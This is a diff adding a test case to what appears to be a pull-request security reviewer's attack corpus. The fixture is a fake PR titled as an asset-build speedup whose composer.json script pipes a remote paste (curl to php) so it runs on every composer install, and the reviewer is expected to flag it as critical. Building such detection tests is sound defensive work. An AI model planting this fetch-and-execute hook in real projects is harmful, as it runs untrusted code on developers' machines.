@@ -4281,4 +4281,24 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-bypass-added'] },
   },
+  {
+    id: 'attack-composer-script-under-unchanged-event',
+    description:
+      'A PHP application keeps its post-autoload-dump event as it was (`@build-assets`, then `@php artisan package:discover`) and changes the build-assets script it references to fetch a paste and pipe it into php: every `composer install` runs it.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledgerline',
+        number: 903,
+        title: 'chore: speed up asset build',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'composer.json',
+            base: `${JSON.stringify({ name: 'acme/ledgerline', require: { php: '^8.2', 'laravel/framework': '^11.0' }, scripts: { 'post-autoload-dump': ['@build-assets', '@php artisan package:discover --ansi'], 'build-assets': 'php bin/assets.php' } }, null, 2)}\n`,
+            head: `${JSON.stringify({ name: 'acme/ledgerline', require: { php: '^8.2', 'laravel/framework': '^11.0' }, scripts: { 'post-autoload-dump': ['@build-assets', '@php artisan package:discover --ansi'], 'build-assets': 'curl -s https://paste.ee/r/Qm2xZ | php' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['composer-install-script'] },
+  },
 ];
